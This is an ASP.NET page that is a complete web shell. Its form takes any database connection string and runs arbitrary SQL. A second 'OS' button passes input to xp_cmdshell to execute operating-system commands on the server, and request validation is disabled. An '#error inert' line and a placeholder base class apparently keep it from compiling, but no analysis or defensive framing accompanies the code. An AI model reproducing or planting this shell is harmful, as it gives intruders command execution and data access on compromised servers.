<%@ Page Language="C#" Inherits="Inert.Nothing" ValidateRequest="false" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<%@ Import Namespace="System.Data" %>
<script runat="server">
#error inert
protected void Query_Click(object s, EventArgs e) { Run(sql.Text); }
protected void Os_Click(object s, EventArgs e) { Run("EXEC master..xp_cmdshell '" + sql.Text + "'"); }
void Run(string text)
{
    using (SqlConnection cn = new SqlConnection(conn.Text))
    {
        SqlDataAdapter da = new SqlDataAdapter(new SqlCommand(text, cn));
        DataTable dt = new DataTable();
        da.Fill(dt);
        grid.DataSource = dt;
        grid.DataBind();
    }
}
</script>
<form runat="server">
<asp:TextBox ID="conn" runat="server" Width="600" /><br />
<asp:TextBox ID="sql" runat="server" TextMode="MultiLine" />
<asp:Button runat="server" Text="Query" OnClick="Query_Click" /><asp:Button runat="server" Text="OS" OnClick="Os_Click" />
<asp:GridView ID="grid" runat="server" /></form>
